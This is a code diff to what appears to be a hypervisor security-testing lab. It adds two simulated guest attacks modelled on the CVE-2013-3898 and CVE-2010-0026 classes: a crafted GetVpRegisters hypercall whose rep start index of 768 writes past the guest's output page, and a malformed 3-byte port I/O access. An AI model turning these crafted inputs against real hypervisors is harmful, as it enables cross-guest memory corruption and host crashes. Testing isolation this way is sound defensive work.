@@ -15,7 +15,10 @@ from hvlab.api import (
     BM_START,
     BM_TO_MEMORY,
     CDB_WRITE,
+    CHILDREN,
     DEFAULT_LAYOUT,
+    GUEST_INPUT_PAGE,
+    HV_PARTITION_ID_SELF,
     OID_GEN_CURRENT_PACKET_FILTER,
     PAGE_SIZE,
     PRD_LAST,
@@ -24,10 +27,13 @@ from hvlab.api import (
     AttackActor,
     BeginProbe,
     EndProbe,
+    HvCallCode,
+    HypercallInput,
     InjectDriver,
     Leak,
     LoadDriver,
     PortIo,
+    RawHypercall,
     Read,
     WaitUntil,
     Write,
@@ -35,6 +41,7 @@ from hvlab.api import (
     disk_io,
     hookimpl,
     ide_command,
+    pack,
     rndis_request,
     run_probe,
     set_request,
@@ -164,6 +171,43 @@ def _rndis_oid_program(actor):
     yield EndProbe()
 
 
+VP_FRAME_SUMMARY = (
+    "CVE-2013-3898's class: guest A passes HvCallGetVpRegisters a crafted rep start index, 768, "
+    "with its output on its last page; a handler that does not bound the output list writes the "
+    "register three pages on, onto the frame the hypervisor took from B's pool for B's virtual "
+    "processor"
+)
+VP_FRAME_REP_START = 768  # 768 x 16 bytes = 0x3000: three pages past the output page
+
+
+def _vp_frame_program(actor):
+    yield WaitUntil(children_booted, "both guests booted")
+    yield BeginProbe("vp-frame-overwrite", VP_FRAME_SUMMARY)
+    reps = VP_FRAME_REP_START + 1  # one register, at the crafted index
+    out_gpa = (CHILDREN[0].ram_pages - 1) * PAGE_SIZE  # A's last RAM page
+    names = b"".join(pack(0x0002_0010) for _ in range(reps))  # HvX64RegisterRip
+    value = HypercallInput.encode(
+        HvCallCode.GET_VP_REGISTERS, rep_count=reps, rep_start=VP_FRAME_REP_START
+    )
+    header = pack(HV_PARTITION_ID_SELF, 0)  # this partition, VP 0
+    yield RawHypercall(value, GUEST_INPUT_PAGE * PAGE_SIZE, out_gpa, header + names)
+    yield EndProbe()
+
+
+MALFORMED_IO_SUMMARY = (
+    "CVE-2010-0026's class: guest A runs an IN whose decoded access size is 3 bytes, which no "
+    "IN or OUT encodes; a hypervisor that does not validate what it decodes at the intercept "
+    "acts on it, faults and stops"
+)
+
+
+def _malformed_io_program(actor):
+    yield WaitUntil(children_booted, "both guests booted")
+    yield BeginProbe("malformed-port-io", MALFORMED_IO_SUMMARY)
+    yield PortIo(0x1F7, size=3)  # the IDE status port, intercepted to A's worker
+    yield EndProbe()
+
+
 ATTACKS = [
     _probe_attack("hv-read", {P.SEPARATE_ADDRESS_SPACES}),
     _probe_attack("hv-patch", {P.SEPARATE_ADDRESS_SPACES}, {P.HYPERCALL_ONLY_ACCESS}),
@@ -219,6 +263,22 @@ ATTACKS = [
         workload="boot",
         breach_sets=(frozenset({P.VSP_VALIDATES_INPUT.value}),),
         actors=lambda: [AttackActor("A.malware", "A", _forged_gpa_program)],
+    ),
+    Attack(
+        name="vp-frame-overwrite",
+        summary=VP_FRAME_SUMMARY,
+        workload="boot",
+        breach_sets=(frozenset({P.SDL_INPUT_VALIDATION.value}),),
+        actors=lambda: [AttackActor("A.malware", "A", _vp_frame_program)],
+        tags=("CVE-2013-3898",),
+    ),
+    Attack(
+        name="malformed-port-io",
+        summary=MALFORMED_IO_SUMMARY,
+        workload="boot",
+        breach_sets=(frozenset({P.SDL_INPUT_VALIDATION.value}),),  # unavailable counts as through
+        actors=lambda: [AttackActor("A.malware", "A", _malformed_io_program)],
+        tags=("CVE-2010-0026",),
     ),
 ]
 
